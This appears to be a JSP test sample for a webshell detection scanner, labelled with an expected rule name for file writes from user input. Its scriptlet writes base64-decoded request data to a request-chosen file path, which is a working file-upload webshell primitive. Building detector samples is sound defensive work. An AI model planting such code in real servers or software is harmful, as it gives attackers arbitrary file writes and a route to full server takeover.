<%-- expect rule=jsp.file-write-input min=75 --%>
<%
    com.sun.org.apache.xml.internal.security.utils.JavaUtils.writeBytesToFilename(
        request.getParameter("p"), java.util.Base64.getDecoder().decode(request.getParameter("d")));
%>
